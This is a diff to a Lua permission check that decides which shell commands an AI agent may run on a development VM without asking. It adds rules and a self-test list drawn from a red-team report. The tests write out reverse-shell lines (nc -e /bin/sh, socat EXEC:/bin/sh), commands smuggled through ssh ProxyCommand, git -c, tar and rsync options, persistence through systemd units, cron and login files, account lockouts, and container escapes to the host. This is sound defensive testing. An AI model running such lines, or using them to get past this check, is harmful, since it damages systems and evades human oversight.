@@ -8,8 +8,13 @@
 -- escapes removed; lists, pipelines, subshells and if/while/for/case split
 -- into commands; sudo, su -c, env, nice, timeout, xargs, bash -c '...',
 -- find -exec, watch, ssh and the like unwrapped to the command they run;
--- redirections and tee seen. Each command that would run is judged by the
--- lists and rules below, and each file a redirection or tee writes.
+-- commands given in programs' own options read as lines too (ssh -o
+-- ProxyCommand, git -c core.pager, tar --to-command, rsync -e, socat EXEC:,
+-- nc -e, GIT_SSH_COMMAND=...); redirections, tee, sort -o and openssl -out
+-- seen. Each command that would run is judged by the lists and rules
+-- below, and each file written. A file that runs later (a unit, a cron
+-- job, a login script) is a system file, and at, batch and crontab
+-- reading jobs the line does not show ask.
 --
 -- It also asks whenever the line holds something that can run a command
 -- the line does not show: $(...) or `...`, <(...), eval, source, a variable
@@ -40,14 +45,28 @@ local SYSTEM_FILES = {"/proc/sysrq-trigger", "/sys/power/state", "/sys/power/dis
                       "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers",
                       "/etc/sudoers.d/**", "/etc/fstab", "/etc/crypttab", "/etc/pam.d/**",
                       "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/**", "/etc/nsswitch.conf",
+                      -- A new host key: the agent refuses the devvm it no longer knows.
+                      "/etc/ssh/ssh_host_*",
                       "/etc/ld.so.preload", "**/.ssh/authorized_keys", "**/.ssh/authorized_keys2",
                       "/boot/**", "/usr/bin/sudo", "/usr/sbin/sshd", "/bin/sudo", "/sbin/sshd",
                       "/usr/bin/bash", "/bin/bash", "/usr/bin/sh", "/bin/sh",
-                      -- Commands written here run later, out of the check's sight.
-                      "/etc/crontab", "/etc/cron.*/**", "/var/spool/cron/**", "/etc/rc.local",
+                      -- Commands written here run later, out of the check's sight:
+                      -- cron and at jobs, units and their timers, boot and login
+                      -- scripts, udev rules, the hooks of apt, ssh and git.
+                      "/etc/cron*", "/etc/cron*/**", "/etc/anacrontab", "/var/spool/cron/**",
+                      "/etc/rc.local", "/etc/init.d/**", "/etc/rc*.d/**",
+                      "/etc/systemd/**", "/lib/systemd/**", "/usr/lib/systemd/**",
+                      "/run/systemd/**", "/etc/xdg/systemd/**", "~/.config/systemd/**",
+                      "/root/.config/systemd/**",
+                      "/etc/udev/rules.d/**", "/lib/udev/rules.d/**", "/usr/lib/udev/rules.d/**",
+                      "/etc/modprobe.d/**", "/etc/ld.so.conf", "/etc/ld.so.conf.d/**",
+                      "/etc/update-motd.d/**", "/etc/apt/apt.conf.d/**",
                       "/etc/profile", "/etc/profile.d/**", "/etc/bash.bashrc",
-                      "/etc/environment", "~/.bashrc", "~/.profile", "~/.bash_profile",
-                      "/root/.bashrc", "/root/.profile"}
+                      "/etc/bash.bash_logout", "/etc/environment", "~/.bashrc", "~/.profile",
+                      "~/.bash_profile", "~/.bash_login", "~/.bash_logout", "/root/.bashrc",
+                      "/root/.profile", "/root/.bash_profile", "**/.ssh/rc", "**/.ssh/config",
+                      "/etc/ssh/sshrc", "/etc/ssh/ssh_config", "/etc/ssh/ssh_config.d/**",
+                      "~/.gitconfig", "~/.config/git/**", "/root/.gitconfig", "/etc/gitconfig"}
 
 -- Folders that rm -r, chmod -R, chown -R, mv, rsync --delete and find
 -- -delete must leave in place. "/*" is every top-level folder.
@@ -71,6 +90,7 @@ local ALWAYS = {
   groupdel = "groupdel removes a group", delgroup = "delgroup removes a group",
   ifdown = "ifdown takes a network interface down",
   rmmod = "rmmod unloads a driver (the network's, the disk's)",
+  swapoff = "swapoff takes swap away, which can run the devvm out of memory",
 }
 
 -- systemctl verbs that power off, restart, suspend or switch the whole
@@ -108,6 +128,9 @@ local ACCESS_UNITS = {"ssh.service", "sshd.service", "ssh.socket", "sshd.socket"
                       "NetworkManager.service", "dbus.service", "dbus.socket",
                       "systemd-logind.service", "init.scope", "-.slice", "system.slice",
                       "user.slice", "user@*.service"}
+-- systemctl verbs that take a unit file's path and link it in.
+local UNIT_FILE_VERBS = {link = true, enable = true, reenable = true, start = true,
+                         restart = true}
 -- systemctl (and service) verbs that stop a unit or keep it from starting.
 local STOP_VERBS = {stop = true, kill = true, mask = true, disable = true, freeze = true}
 -- loginctl verbs that power off, suspend or end the agent's sessions.
@@ -387,11 +410,18 @@ RULES.systemctl = function(c)
     return false
   elseif SYSTEMCTL_POWER[verb] then
     return "systemctl " .. verb .. " powers the devvm off or switches its target"
+  elseif verb == "edit" and has_word(c, {["--stdin"] = true}) then
+    return "systemctl edit --stdin writes a unit file"
   end
   for k = 2, #ops do
     local unit = c.argv[ops[k]]
     if not unit:find("%.%a+$") and not unit:find("[*?[]") then
       unit = unit .. ".service"
+    end
+    -- A unit file by its path is linked into the unit folders: it runs
+    -- later, from wherever the line wrote it.
+    if UNIT_FILE_VERBS[verb] and c.argv[ops[k]]:find("/", 1, true) then
+      return "systemctl " .. verb .. " installs a unit file from " .. c.argv[ops[k]]
     end
     if matches_any(unit, POWER_UNITS, true) then
       return "systemctl " .. verb .. " of a unit that powers the devvm off or restarts it"
@@ -503,11 +533,17 @@ local function pkill_rule(c)
                               group = true, parent = true, terminal = true, pidfile = true,
                               ns = true, nslist = true, session = true, user = true,
                               ["older-than"] = true, ["younger-than"] = true, context = true})
-  for _, key in ipairs({"u", "U", "euid", "uid", "user"}) do
-    local who = opts[key]
-    if type(who) == "string" and (who:find("^root") or who:find("^0")) then
-      return c.name .. " of every process of root"
+  -- Every process of a user, of root or of the agent's own (its shell,
+  -- its sshd), whatever the check knows of who runs what.
+  for _, key in ipairs({"u", "U", "euid", "uid", "user", "G", "group", "g", "pgroup", "s",
+                        "session"}) do
+    local who = not (c.name == "killall" and key == "s") and opts[key]
+    if type(who) == "string" and (#ops == 0 or who:find("^root") or who:find("^0")) then
+      return c.name .. " of every process of " .. who
     end
+  end
+  if c.name ~= "killall" and (opts.v or opts.inverse) then
+    return c.name .. " -v signals every process but the ones it names"
   end
   local parent = opts.P or opts.parent
   if type(parent) == "string" and (parent:find("^0*[01]$") or parent:find(",0*[01]$")
@@ -545,18 +581,26 @@ RULES.ip = function(c)
   return nil
 end
 
+-- ifconfig IFACE shows, ifconfig IFACE up brings up; any other word after
+-- the interface (an address, down, netmask, del) changes it.
 RULES.ifconfig = function(c)
-  if has_word(c, {down = true}) then
-    return "ifconfig takes a network interface down"
+  local ops = operands(c)
+  for k = 2, #ops do
+    if c.argv[ops[k]] ~= "up" then
+      return "ifconfig changes or takes down a network interface"
+    end
   end
   return nil
 end
 
 RULES.nmcli = function(c)
-  local ops = operands(c, "fgm", {fields = true, get_values = true, mode = true})
+  local ops = operands(c, "fgmwe", {fields = true, ["get-values"] = true, mode = true,
+                                    wait = true, escape = true, colors = true})
   local object, verb = c.argv[ops[1] or 0], c.argv[ops[2] or 0]
   if (abbreviates(object, "networking") and verb == "off")
-      or (abbreviates(object, "connection") and abbreviates(verb, "down"))
+      or (abbreviates(object, "connection") and (abbreviates(verb, "down")
+                                                 or abbreviates(verb, "delete")))
+      or (abbreviates(object, "radio") and has_word(c, {off = true}))
       or (abbreviates(object, "device") and (abbreviates(verb, "disconnect")
                                              or abbreviates(verb, "down"))) then
     return "nmcli takes the devvm's network down"
@@ -613,26 +657,45 @@ RULES.crontab = function(c)
   return nil
 end
 
-local function account_rule(options)
+-- Each account tool with its own options: short_args and long_args take a
+-- value, asks lists the options that can lock the agent out. A flag read
+-- as taking a value would swallow the option after it (passwd -u -l).
+local function account_rule(short_args, long_args, asks)
   return function(c)
-    local _, opts = operands(c, "cdeEfgGlLmpsuU", {comment = true, home = true,
-                                                   expiredate = true, gid = true,
-                                                   groups = true, login = true, shell = true,
-                                                   uid = true, inactive = true,
-                                                   password = true})
-    for _, key in ipairs(options) do
-      if opts[key] and not (key == "G" and opts.a) and not (key == "groups" and opts.append) then
-        return c.name .. " -" .. (#key > 1 and "-" or "") .. key .. " can lock the agent out"
+    local _, opts = operands(c, short_args, long_args)
+    for key in pairs(opts) do
+      for _, option in ipairs(asks) do
+        local long = #option > 1
+        if (key == option or (long and #key > 1 and abbreviates(key, option)))
+            and not ((option == "G" or option == "groups") and (opts.a or opts.append)) then
+          return c.name .. " -" .. (long and "-" or "") .. option .. " can lock the agent out"
+        end
       end
     end
     return nil
   end
 end
-RULES.usermod = account_rule({"L", "lock", "e", "expiredate", "s", "shell", "G", "groups", "l",
-                              "login"})
-RULES.passwd = account_rule({"l", "lock", "d", "delete", "e", "expire"})
-RULES.gpasswd = account_rule({"d", "delete", "M", "members"})
-RULES.chage = account_rule({"E", "expiredate"})
+RULES.usermod = account_rule("cdefgGlpsuRPZvVwW",
+                             {comment = true, home = true, expiredate = true, inactive = true,
+                              gid = true, groups = true, login = true, password = true,
+                              shell = true, uid = true, root = true, prefix = true,
+                              selinux_user = true, ["add-subuids"] = true,
+                              ["del-subuids"] = true, ["add-subgids"] = true,
+                              ["del-subgids"] = true},
+                             {"L", "lock", "e", "expiredate", "s", "shell", "G", "groups", "l",
+                              "login", "p", "password", "u", "uid", "d", "home", "m",
+                              "move-home"})
+RULES.passwd = account_rule("nxwirRP", {mindays = true, maxdays = true, warndays = true,
+                                        inactive = true, repository = true, root = true,
+                                        prefix = true},
+                            {"l", "lock", "d", "delete", "e", "expire", "x", "maxdays"})
+RULES.gpasswd = account_rule("adMAQ", {add = true, delete = true, members = true,
+                                       administrators = true, root = true},
+                             {"d", "delete", "M", "members"})
+RULES.chage = account_rule("dEImMWRP", {lastday = true, expiredate = true, inactive = true,
+                                        mindays = true, maxdays = true, warndays = true,
+                                        root = true, prefix = true},
+                           {"E", "expiredate", "I", "inactive", "d", "lastday", "M", "maxdays"})
 
 RULES.find = function(c)
   if not has_word(c, {["-delete"] = true}) then
@@ -750,6 +813,213 @@ RULES.efibootmgr = function(c)
     return "efibootmgr removes a boot entry"
   end
   return nil
+end
+
+-- Package managers' verbs that remove packages (the upgrades too, when
+-- they must), and the options of theirs that take a value.
+local APT_REMOVE = {remove = true, purge = true, autoremove = true, autopurge = true,
+                    ["dist-upgrade"] = true, ["full-upgrade"] = true, ["auto-remove"] = true}
+local function apt_rule(c)
+  local ops = operands(c, "oct", {option = true, config = true, ["target-release"] = true,
+                                  ["default-release"] = true})
+  local verb = c.argv[ops[1] or 0]
+  if verb and APT_REMOVE[verb] then
+    return c.name .. " " .. verb .. " removes packages"
+  end
+  -- apt-get install pkg- removes pkg.
+  for k = 2, verb == "install" and #ops or 0 do
+    if c.argv[ops[k]]:find("%-$") then
+      return c.name .. " install " .. c.argv[ops[k]] .. " removes a package"
+    end
+  end
+  return nil
+end
+RULES["apt-get"], RULES.apt, RULES.aptitude = apt_rule, apt_rule, apt_rule
+
+RULES.dpkg = function(c)
+  for i = 2, #c.argv do
+    local a = c.argv[i]
+    if a == "--" then
+      break
+    elseif a:find("^%-[%a]*[rP]") or a == "--remove" or a == "--purge" then
+      return "dpkg " .. a .. " removes a package"
+    end
+  end
+  return nil
+end
+
+-- mount: a remount (read-only, noexec, ...) or a move changes a file
+-- system in use, and a mount over a system folder hides it. /mnt and
+-- /media are there to be mounted on.
+local SCRATCH_MOUNTS = args.list({"/mnt", "/mnt/**", "/media", "/media/**"})
+local function over_system_tree(c, i)
+  return may_name(c, i, SYSTEM_TREES) and not (not c.words[i].glob
+    and listed(shell.resolve(c.argv[i], c.cwd) or "", SCRATCH_MOUNTS))
+end
+
+RULES.mount = function(c)
+  local ops, opts = operands(c, "oOtLUTNB", {options = true, types = true, label = true,
+                                             uuid = true, ["test-opts"] = true, fstab = true,
+                                             source = true, target = true, namespace = true})
+  local options = opts.o or opts.options
+  if type(options) == "string" and options:find("remount") or opts.M or opts.move then
+    return "mount changes a mounted file system"
+  end
+  for _, i in ipairs(#ops > 1 and {ops[#ops]} or {}) do
+    if over_system_tree(c, i) then
+      return "mount over a system folder hides it"
+    end
+  end
+  return nil
+end
+
+RULES.umount = function(c)
+  local ops, opts = operands(c, "tOUN", {types = true, ["test-opts"] = true, namespace = true})
+  if opts.a or opts.all then
+    return "umount -a unmounts every file system"
+  end
+  for _, i in ipairs(ops) do
+    if over_system_tree(c, i) then
+      return "umount of a system folder"
+    end
+  end
+  return nil
+end
+
+-- DHCP clients release the devvm's address with -r or -x.
+local function dhcp_rule(c)
+  if has_word(c, {["-r"] = true, ["-x"] = true, ["-k"] = true, ["--release"] = true,
+                  ["--exit"] = true}) then
+    return c.name .. " releases the devvm's address"
+  end
+  return nil
+end
+RULES.dhclient, RULES.dhcpcd = dhcp_rule, dhcp_rule
+
+-- tar extracting into a system folder (-C, or the folder it runs in), or
+-- with -P, the archive's absolute names: it overwrites what the archive
+-- holds there. The home folder and the scratch ones are left out:
+-- unpacking there is everyday work.
+local UNPACK_FOLDERS = {["~"] = true, ["/tmp"] = true, ["/var/tmp"] = true, ["/mnt"] = true,
+                        ["/media"] = true, ["/srv"] = true, ["/opt"] = true}
+RULES.tar = function(c)
+  local extract, absolute, dir = false, false, {value = ".", dynamic = false, glob = false}
+  for i = 2, #c.argv do
+    local a = c.argv[i]
+    -- Short options in a bundle: -xzf, or the first word without a dash.
+    local letters = a:match("^%-(%a+)$") or (i == 2 and a:match("^(%a+)$")) or ""
+    extract = extract or letters:find("x", 1, true) ~= nil or a == "--get"
+              or (#a > 4 and abbreviates(a:sub(3), "extract") and a:sub(1, 2) == "--")
+    absolute = absolute or letters:find("P", 1, true) ~= nil or a == "--absolute-names"
+    local w = c.words[i]
+    if (a == "-C" or a == "--directory") and c.words[i + 1] then
+      dir = c.words[i + 1]
+    elseif a:find("^%-%-directory=") or a:find("^%-C.") then
+      dir = {value = a:match("^%-%-directory=(.*)$") or a:sub(3), dynamic = w.dynamic,
+             glob = w.glob}
+    end
+  end
+  if not extract then
+    return nil
+  elseif absolute then
+    return "tar -P extracts to the archive's absolute paths"
+  end
+  local probe = {name = c.name, cwd = c.cwd, words = {dir}}
+  if not dir.dynamic and not UNPACK_FOLDERS[shell.resolve(dir.value, c.cwd) or ""]
+      and may_name(probe, 1, SYSTEM_TREES) then
+    return "tar extracts into a system folder"
+  end
+  return nil
+end
+
+-- docker, podman and nerdctl: a container given the host (privileged,
+-- its PID namespace, added capabilities, a host system folder, file,
+-- disk or the engine's socket mounted writable) can change the devvm as
+-- root can.
+local CONTAINER_HOST_FILES = args.list({"/var/run/docker.sock", "/run/docker.sock",
+                                        "/run/podman/podman.sock", "/run/containerd/**",
+                                        "/var/run/containerd/**", "/proc", "/proc/**", "/sys",
+                                        "/sys/**", "/dev", "/dev/**"})
+
+-- Whether a mount spec (SRC:DST[:opts] or type=bind,source=SRC,...) in
+-- the word w gives a container a host path that matters, writable; nil
+-- when it cannot be read. $HOME is the home folder, "~".
+local function host_mount(c, w, spec)
+  if w.dynamic then
+    spec = spec:gsub("^%$HOME/", "~/"):gsub("^%${HOME}/", "~/")
+    if spec:find("[$`]") then
+      return nil
+    end
+  end
+  local src, options
+  if spec:find("=", 1, true) then
+    src = spec:match("source=([^,]*)") or spec:match("src=([^,]*)")
+    options = (spec:find("readonly") or spec:find("ro=true") or spec:find(",ro,")
+               or spec:find(",ro$")) and "ro" or ""
+  else
+    src, options = spec:match("^([^:]*)"), spec:match("^[^:]*:[^:]*:(.*)$") or ""
+  end
+  if src == nil or src:sub(1, 1) ~= "/" and src:sub(1, 1) ~= "~" then
+    return false -- a named volume
+  end
+  if options:find("%f[%w]ro%f[%W]") then
+    return false
+  end
+  local probe = {name = c.name, cwd = c.cwd, words = {{value = src, dynamic = false,
+                                                       glob = w.glob}}}
+  return may_name(probe, 1, SYSTEM_TREES) or may_name(probe, 1, SYSTEM_FILES)
+      or may_name(probe, 1, DISKS) or may_name(probe, 1, CONTAINER_HOST_FILES)
+end
+
+local MOUNT_OPTIONS = {["-v"] = true, ["--volume"] = true, ["--mount"] = true,
+                       ["--device"] = true}
+
+-- Words it cannot read ask only where they could give the container the
+-- host: in run, create or exec, but for a mount read as $HOME/...
+local function container_rule(c)
+  local verb, read = false, {}
+  for i = 2, #c.argv do
+    local a, nxt = c.argv[i], c.argv[i + 1] or ""
+    if not verb and (a == "run" or a == "create" or a == "exec") then
+      verb = a
+    elseif verb then
+      local name, value = a:match("^(%-%-[%w-]+)=(.*)$")
+      name, value = name or a, value or nxt
+      local at = a:find("=", 1, true) and i or i + 1
+      if a:find("^%-v.") then
+        name, value, at = "-v", a:sub(3), i
+      end
+      if name == "--privileged" and value ~= "false" then
+        return c.name .. " " .. verb .. " --privileged gives the container the devvm"
+      elseif (name == "--pid" or name == "--userns" or name == "--uts") and value == "host"
+          or name == "--cap-add" then
+        return c.name .. " " .. verb .. " " .. name .. " gives the container the devvm's "
+            .. (name == "--cap-add" and "powers" or "processes")
+      elseif MOUNT_OPTIONS[name] and c.words[at] then
+        local gives = host_mount(c, c.words[at], value)
+        if gives then
+          return c.name .. " " .. verb .. " mounts a devvm system path into the container"
+        end
+        read[at] = gives == false
+      end
+    end
+  end
+  for i = 2, verb and #c.argv or 0 do
+    if c.words[i].dynamic and not read[i] then
+      return nil
+    end
+  end
+  return false
+end
+RULES.docker, RULES.podman, RULES.nerdctl = container_rule, container_rule, container_rule
+
+-- nsenter with no command starts a shell in another process's namespaces
+-- (init's: the devvm's), reading what the check cannot see.
+RULES.nsenter = function(c)
+  if has_word(c, {["-h"] = true, ["--help"] = true, ["-V"] = true, ["--version"] = true}) then
+    return false
+  end
+  return "nsenter starts a shell in another process's namespaces"
 end
 
 --------------------------------------------------------------------------------
@@ -991,6 +1261,62 @@ function policy.self_test(t)
     "start-stop-daemon --start --exec /sbin/reboot",
     "sed -n '1e reboot' /etc/hostname", "sed 's/.*/reboot/e' /etc/hostname",
     "sed -n 'w /etc/passwd' /tmp/x",
+    -- The red team's second report.
+    "passwd -u -l breakglass", "passwd -x 0 breakglass", "usermod -m -s /bin/false breakglass",
+    "usermod -U -L breakglass", "usermod --lo breakglass", "chage -l -E 0 breakglass",
+    "chage --exp 0 breakglass", "chage -d 0 breakglass", "gpasswd -d breakglass sudo",
+    "apt-get remove openssh-server", "apt-get purge openssh-server", "apt-get autoremove",
+    "apt-get -y -o Dpkg::Options::=--force-confold purge openssh-server", "apt remove sudo",
+    "apt full-upgrade", "apt-get install openssh-server-", "dpkg -r systemd", "dpkg -P systemd",
+    "dpkg --purge systemd", "dpkg --force-all -r sudo", "aptitude remove openssh-server",
+    "mount -o remount,ro /", "mount -o ro,remount /home", "mount --move /mnt /home",
+    "mount --bind /tmp/x /etc", "mount -t tmpfs tmpfs /root/.ssh", "umount -l /",
+    "umount -f /home", "umount -a", "swapoff -a", "swapoff /swapfile", "pkill -u breakglass",
+    "killall -u breakglass", "pkill -U 1000", "pkill --euid breakglass", "pkill -v nginx",
+    "pkill -s 0", "kill -9 -1", "kill -s KILL -1", "dhclient -r", "dhclient -x eth0",
+    "dhcpcd -k eth0", "ifconfig eth0 0.0.0.0", "ifconfig eth0 del 198.18.0.2",
+    "ifconfig eth0 mtu 100", "ip addr flush dev eth0", "ip a f dev eth0",
+    "ip link set eth0 down", "nmcli con down eth0", "nmcli c down id x",
+    "nmcli -w 5 dev disconnect eth0", "nmcli networking off", "nmcli radio all off",
+    "nmcli connection delete eth0",
+    "echo x > /etc/systemd/system/x.service", "tee /etc/systemd/system/x.timer",
+    "cp /tmp/x.service /etc/systemd/system/", "echo x > ~/.config/systemd/user/x.service",
+    "ln -s /tmp/x.service /etc/systemd/system/multi-user.target.wants/",
+    "systemctl link /tmp/x.service", "systemctl enable --now /tmp/x.service",
+    "systemctl edit --stdin x", "echo x > /etc/cron.d/x", "cp /tmp/x /etc/cron.hourly/",
+    "echo x >> /etc/rc.local", "echo x > /etc/profile.d/x.sh", "echo x > ~/.ssh/rc",
+    "echo x > /etc/udev/rules.d/99-x.rules", "echo x > /etc/update-motd.d/99-x",
+    "echo x > /etc/apt/apt.conf.d/99x", "echo x >> ~/.gitconfig",
+    "at now -f /tmp/x", "at now + 1 minute -f /tmp/x", "echo reboot | at now", "batch -f /tmp/x",
+    "ssh -o ProxyCommand='reboot' x", "ssh -oProxyCommand=reboot x",
+    "ssh x -o 'ProxyCommand reboot'",
+    "ssh -o RemoteCommand=reboot localhost", "scp -o ProxyCommand=reboot /tmp/x y:",
+    "git -c core.pager=reboot log", "git -c core.sshCommand=reboot fetch",
+    "git -c alias.x='!reboot' x", "git -c core.hooksPath=/tmp/h commit",
+    "git config --global core.pager reboot", "GIT_SSH_COMMAND=reboot git fetch",
+    "SYSTEMD_PAGER='sh -c reboot' systemctl status",
+    "tar --checkpoint=1 --checkpoint-action=exec=reboot -cf /tmp/x /tmp",
+    "tar --to-command=reboot -xf /tmp/x.tar", "tar -xf x.tar --to-c reboot",
+    "tar cf /tmp/x.tar -I reboot /tmp", "tar xf /tmp/x.tar -C /", "tar xPf /tmp/x.tar",
+    "cd / && tar xf /tmp/x.tar", "zip -T -TT reboot /tmp/x.zip /tmp/y",
+    "zip --unzip-command=reboot -T /tmp/x.zip /tmp/y", "rsync -e 'sh -c reboot' /tmp/x y:/tmp",
+    "rsync --rsh='sh -c reboot' /tmp/x y:/tmp",
+    "rsync --rsync-path='sudo reboot' /tmp/x localhost:/tmp",
+    "vim -c '!reboot' /tmp/x", "vi +'!reboot' /tmp/x", "echo '!reboot' | ex",
+    "openssl rand -out /dev/vda 100", "openssl enc -in /tmp/x -out /dev/vda",
+    "sort -o /etc/passwd /tmp/x", "socat - EXEC:reboot", "socat TCP-LISTEN:80,fork SYSTEM:reboot",
+    "socat TCP-LISTEN:80 EXEC:/bin/sh", "socat - OPEN:/dev/vda", "nc -e /bin/sh 198.18.0.1 80",
+    "nc -c reboot 198.18.0.1 80", "ncat --exec /bin/sh 198.18.0.1 80",
+    "ncat --sh-exec reboot 198.18.0.1 80", "find / -exec reboot \\;",
+    "find /tmp -execdir reboot \\;", "find / -fprint /etc/passwd",
+    "mapfile -C reboot -c 1 x < /tmp/f",
+    "docker run -v /:/h alpine", "docker run -v/etc:/e alpine", "podman run -v /:/h alpine",
+    "docker run --mount type=bind,source=/,target=/h alpine", "docker run --privileged alpine",
+    "podman run --pid=host alpine", "docker run --cap-add SYS_ADMIN alpine",
+    "docker run --device /dev/vda alpine", "docker run -v /run/docker.sock:/s alpine",
+    "docker exec --privileged x sh", "nsenter -t 1", "nsenter -t 1 -m -u -i -n -p",
+    "docker run -v \"$X:/h\" alpine", "docker run $OPTS alpine", "docker run -v $HOME:/h alpine",
+    "ssh -F /tmp/cfg x uptime", "openssl req -new -keyout /etc/ssh/ssh_host_rsa_key -out /tmp/x",
     -- Lines the check cannot see through.
     "eval reboot", "x=reboot; $x", "`echo reboot`", "echo reboot | sh", "bash <<EOF\nreboot\nEOF",
     "source /tmp/x.sh", "f() { :; }; f", "python3 -c 'import os'", "sudo $CMD",
@@ -1019,6 +1345,27 @@ function policy.self_test(t)
     "rsync -avt --delete /tmp/a/ /tmp/b/", "cp -r /tmp/a /tmp/b", "cp -t /tmp /etc/passwd",
     "tmux ls", "screen -ls", "sed -n '/error/p' /var/log/syslog",
     "sed -e 's/^#//' -e '/^$/d' /etc/ssh/sshd_config",
+    "passwd -S breakglass", "chage -l breakglass", "usermod -aG docker breakglass",
+    "usermod --append --groups docker breakglass", "gpasswd -a breakglass docker",
+    "apt list --installed", "apt-get install htop", "apt-get update", "apt show sudo",
+    "dpkg -l", "dpkg -L openssh-server", "dpkg -S /usr/sbin/sshd", "mount", "mount -l -t ext4",
+    "mount | grep ' / '", "mount /dev/vdb1 /mnt", "umount /mnt/x", "swapon --show",
+    "pkill -u www-data nginx", "pkill -HUP nginx", "killall -s HUP nginx", "ifconfig",
+    "ifconfig -a", "ifconfig eth0", "ifconfig eth0 up", "dhclient -v eth0", "ip addr show",
+    "ip a s eth0", "nmcli con show", "nmcli -t -f NAME con show", "nmcli device status",
+    "cat /etc/systemd/system/x.service", "ls /etc/systemd/system", "systemctl enable nginx",
+    "systemctl daemon-reload", "cat /etc/crontab", "ls -la /etc/cron.d",
+    "at -l", "atq", "ssh x uptime", "ssh -o ConnectTimeout=5 x uptime", "git log --oneline -5",
+    "git -c core.pager=cat log", "git config core.pager", "PAGER=cat systemctl status",
+    "tar tf /tmp/x.tar", "tar czf /tmp/x.tgz /var/log", "tar --checkpoint=1000 -cf /tmp/x /tmp",
+    "tar xzf /tmp/x.tgz", "tar -xf /tmp/x.tar -C /tmp/y", "zip -r /tmp/x.zip /var/log",
+    "rsync -av -e 'ssh -p 2222' /tmp/x y:/tmp", "vim +10 /tmp/x", "vi /tmp/x",
+    "openssl x509 -in /tmp/c.pem -noout -text", "sort -u /tmp/x", "socat - TCP:198.18.0.1:80",
+    "nc -zv 198.18.0.1 22", "mapfile -t lines < /tmp/f", "find / -name x", "docker ps",
+    "docker logs --tail 50 x", "docker run --rm -v /tmp/x:/x alpine ls", "podman ps -a",
+    "docker run --rm -v /:/h:ro alpine ls /h", "nsenter -t 1 -m df -h",
+    "docker run --rm -v \"$HOME/proj:/src\" node:20 npm test", "docker logs $ID",
+    "ssh -F /dev/null x uptime", "cat /etc/ssh/ssh_host_ed25519_key.pub",
   }
   for _, c in ipairs(passes) do
     local d = decide(c)
